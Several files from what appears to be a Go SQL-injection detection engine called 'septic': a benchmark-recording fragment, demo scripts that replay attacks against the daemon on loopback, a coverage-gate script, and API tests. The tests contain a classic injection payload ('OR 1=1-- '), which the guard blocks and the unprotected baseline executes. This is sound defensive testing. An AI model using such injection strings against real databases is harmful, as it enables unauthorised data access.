printf '%s\n' "$DUR_RAW" | awk -v out="$DUR_OUT" '
BEGIN      { n = 0 }
/^goos:/   { goos = $2 }
/^goarch:/ { goarch = $2 }
/^cpu:/    { sub(/^cpu: /, ""); cpu = $0 }
/^BenchmarkTrainDurable\// {
	name = $1; sub(/-[0-9]+$/, "", name); sub(/^BenchmarkTrainDurable\//, "", name)
	names[n] = name; ns[n] = $3; allocs[n] = $7; n++
	if (name == "off") base_ns = $3
}
END {
	if (n == 0) { print "bench-record: no durability lines parsed" > "/dev/stderr"; exit 1 }
	printf "{\n" > out
	printf "  \"goos\": \"%s\",\n  \"goarch\": \"%s\",\n  \"cpu\": \"%s\",\n", goos, goarch, cpu > out
	printf "  \"metric\": \"ns per acknowledged training update (Store.Put incl. WAL append)\",\n" > out
	printf "  \"policies\": [\n" > out
	for (i = 0; i < n; i++) {
		over = (base_ns > 0 && names[i] != "off") ? ns[i] / base_ns : 1
		printf "    {\"fsync\": \"%s\", \"ns_per_update\": %s, \"allocs_per_op\": %s, \"overhead_x\": %.1f}%s\n", \
			names[i], ns[i], allocs[i], over, (i < n - 1 ? "," : "") > out
	}
	printf "  ]\n}\n" > out
}
'
echo "bench-record: wrote $DUR_OUT"

# Overload sweep: the lane computes its own derived numbers (shed rate
# per multiplier, admitted-p99 ratio vs the 1× baseline) and writes the
# JSON itself.
go run ./cmd/septic-bench overload -json "$OVL_OUT"
echo "bench-record: wrote $OVL_OUT"
