#!/usr/bin/env bash
# End-to-end observability demo: start septicd with the introspection
# endpoint on, replay the Address Book workload plus the attack battery
# through a real wire connection, then show what /metrics, /events and
# /qm expose about it. Everything runs on loopback and is torn down on
# exit.
set -euo pipefail
cd "$(dirname "$0")/.."

DB_ADDR=${DB_ADDR:-127.0.0.1:13306}
OBS_ADDR=${OBS_ADDR:-127.0.0.1:19188}

echo "== building =="
go build -o /tmp/septicd ./cmd/septicd
go build -o /tmp/septic-replay ./cmd/septic-replay

echo "== starting septicd (prevention, obs on $OBS_ADDR) =="
/tmp/septicd -addr "$DB_ADDR" -obs-addr "$OBS_ADDR" -quiet &
SEPTICD_PID=$!
trap 'kill "$SEPTICD_PID" 2>/dev/null || true' EXIT

for _ in $(seq 50); do
    curl -sf "http://$OBS_ADDR/metrics" >/dev/null 2>&1 && break
    sleep 0.1
done

echo "== replaying Address Book workload + attacks =="
/tmp/septic-replay -addr "$DB_ADDR" -attacks

echo
echo "== /metrics (stage histograms and counters) =="
curl -s "http://$OBS_ADDR/metrics?format=prometheus" | grep -E 'stage|attacks|hook' | head -40

echo
echo "== /events?kind=attack (the blocked injections) =="
curl -s "http://$OBS_ADDR/events?kind=attack"

echo
echo "== /qm (learned query models, data blanked to ⊥) =="
curl -s "http://$OBS_ADDR/qm" | head -c 2000; echo

echo
echo "== done — septicd shutting down =="
