#!/usr/bin/env bash
# End-to-end observability demo: start septicd with the introspection
# endpoint on, replay the Address Book workload plus the attack battery
# through a real wire connection, then show what /metrics, /events and
# /qm expose about it. Everything runs on loopback and is torn down on
# exit.
set -euo pipefail
cd "$(dirname "$0")/.."

DB_ADDR=${DB_ADDR:-127.0.0.1:13306}
OBS_ADDR=${OBS_ADDR:-127.0.0.1:19188}

echo "== building =="
go build -o /tmp/septicd ./cmd/septicd
go build -o /tmp/septic-replay ./cmd/septic-replay

# The Address Book queries are tagged "/* ab:... */", so registering an
# "ab" protection domain routes the whole replay into its own partition
# — the default domain only sees untagged traffic.
DOMAINS_FILE=$(mktemp)
cat >"$DOMAINS_FILE" <<'JSON'
{
  "ab": { "mode": "prevention" }
}
JSON

echo "== starting septicd (prevention, obs on $OBS_ADDR, domain 'ab') =="
/tmp/septicd -addr "$DB_ADDR" -obs-addr "$OBS_ADDR" -domains "$DOMAINS_FILE" -quiet &
SEPTICD_PID=$!
trap 'kill "$SEPTICD_PID" 2>/dev/null || true; rm -f "$DOMAINS_FILE"' EXIT

for _ in $(seq 50); do
    curl -sf "http://$OBS_ADDR/metrics" >/dev/null 2>&1 && break
    sleep 0.1
done

echo "== replaying Address Book workload + attacks =="
/tmp/septic-replay -addr "$DB_ADDR" -attacks

echo
echo "== /metrics (stage histograms and counters) =="
# awk instead of head: head exits early and the resulting SIGPIPE into
# curl trips pipefail.
curl -s "http://$OBS_ADDR/metrics?format=prometheus" | awk '/stage|attacks|hook/ && ++n <= 40'

echo
echo "== /events?kind=attack (the blocked injections) =="
curl -s "http://$OBS_ADDR/events?kind=attack"

echo
echo "== per-domain counters (core.domain.ab.*) =="
curl -s "http://$OBS_ADDR/metrics?format=prometheus" | awk '/domain_ab/ && ++n <= 10'

echo
echo "== /qm?domain=ab (the 'ab' domain's learned models, data blanked to ⊥) =="
qm=$(curl -s "http://$OBS_ADDR/qm?domain=ab")
printf '%s\n' "${qm:0:2000}"

echo
echo "== done — septicd shutting down =="
