#!/usr/bin/env bash
# Coverage gate for the detection-critical packages.
#
# Reads scripts/coverage-baseline.txt (package path + floor percentage
# per line) and fails if any gated package's statement coverage falls
# below its floor. The floors are recorded a few tenths under the
# measured value so toolchain or inlining noise does not flake the gate,
# while a real drop — deleting tests, landing untested branches in the
# hook path — still fails.
#
# After deliberately raising coverage, re-record with:
#   scripts/covergate.sh -record
set -euo pipefail
cd "$(dirname "$0")/.."

baseline=scripts/coverage-baseline.txt
record=false
[ "${1:-}" = "-record" ] && record=true

profile=$(mktemp)
trap 'rm -f "$profile"' EXIT

measure() { # measure <pkg> -> percentage like 93.2
    go test -coverprofile="$profile" "./$1/" >/dev/null
    go tool cover -func="$profile" | awk '/^total:/ {sub(/%/, "", $3); print $3}'
}

if $record; then
    {
        echo "# package  coverage-floor-% (recorded $(date -u +%F) minus 0.5 headroom)"
        for pkg in internal/core internal/qstruct internal/wire internal/wal internal/repl internal/overload; do
            pct=$(measure "$pkg")
            awk -v p="$pkg" -v c="$pct" 'BEGIN { printf "%s %.1f\n", p, c - 0.5 }'
        done
    } >"$baseline"
    echo "recorded:" && cat "$baseline"
    exit 0
fi

status=0
while read -r pkg floor; do
    case "$pkg" in ''|\#*) continue ;; esac
    pct=$(measure "$pkg")
    if awk -v c="$pct" -v f="$floor" 'BEGIN { exit !(c < f) }'; then
        echo "FAIL $pkg: coverage ${pct}% below recorded floor ${floor}%"
        status=1
    else
        echo "ok   $pkg: coverage ${pct}% (floor ${floor}%)"
    fi
done <"$baseline"
exit $status
