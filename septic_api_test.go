package septic_test

import (
	"errors"
	"testing"

	septic "github.com/septic-db/septic"
)

// TestPublicAPIQuickstart exercises the doc-comment quick start.
func TestPublicAPIQuickstart(t *testing.T) {
	db, guard := septic.New(septic.DefaultConfig())
	if _, err := db.Exec("CREATE TABLE t (id INT, name TEXT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("INSERT INTO t (id, name) VALUES (1, 'ann')"); err != nil {
		t.Fatal(err)
	}

	guard.SetMode(septic.ModeTraining)
	if _, err := db.Exec("SELECT name FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}

	guard.SetConfig(septic.Config{Mode: septic.ModePrevention, DetectSQLI: true})
	res, err := db.Exec("SELECT name FROM t WHERE id = 1")
	if err != nil {
		t.Fatalf("benign query blocked: %v", err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0].S != "ann" {
		t.Errorf("rows = %v", res.Rows)
	}

	_, err = db.Exec("SELECT name FROM t WHERE id = 1 OR 1=1-- ")
	if !errors.Is(err, septic.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	if guard.Stats().AttacksBlocked != 1 {
		t.Errorf("stats = %+v", guard.Stats())
	}
}

func TestPublicAPIUnprotectedBaseline(t *testing.T) {
	db := septic.NewUnprotected()
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	// No hook: the injection executes (that is the point of the baseline).
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1 OR 1=1-- "); err != nil {
		t.Errorf("unprotected engine must execute: %v", err)
	}
}

func TestPublicAPIAttachLater(t *testing.T) {
	db := septic.NewUnprotected()
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	_, guard := septic.New(septic.Config{Mode: septic.ModeTraining})
	septic.Attach(db, guard)
	if _, err := db.Exec("SELECT id FROM t WHERE id = 5"); err != nil {
		t.Fatal(err)
	}
	if guard.Store().Len() != 1 {
		t.Errorf("models = %d, want 1", guard.Store().Len())
	}
}

func TestPublicAPIExecArgs(t *testing.T) {
	db, _ := septic.New(septic.DefaultConfig())
	mustExec(t, db, "CREATE TABLE t (id INT, name TEXT, score FLOAT, ok BOOL, note TEXT)")
	if _, err := db.ExecArgs("INSERT INTO t (id, name, score, ok, note) VALUES (?, ?, ?, ?, ?)",
		septic.Int(1), septic.Str("x"), septic.Float(2.5), septic.Bool(true), septic.Null()); err != nil {
		t.Fatal(err)
	}
	res, err := db.ExecArgs("SELECT name FROM t WHERE id = ?", septic.Int(1))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0].S != "x" {
		t.Errorf("rows = %v", res.Rows)
	}
}

func mustExec(t *testing.T, db *septic.DB, q string) *septic.Result {
	t.Helper()
	res, err := db.Exec(q)
	if err != nil {
		t.Fatalf("Exec(%q): %v", q, err)
	}
	return res
}
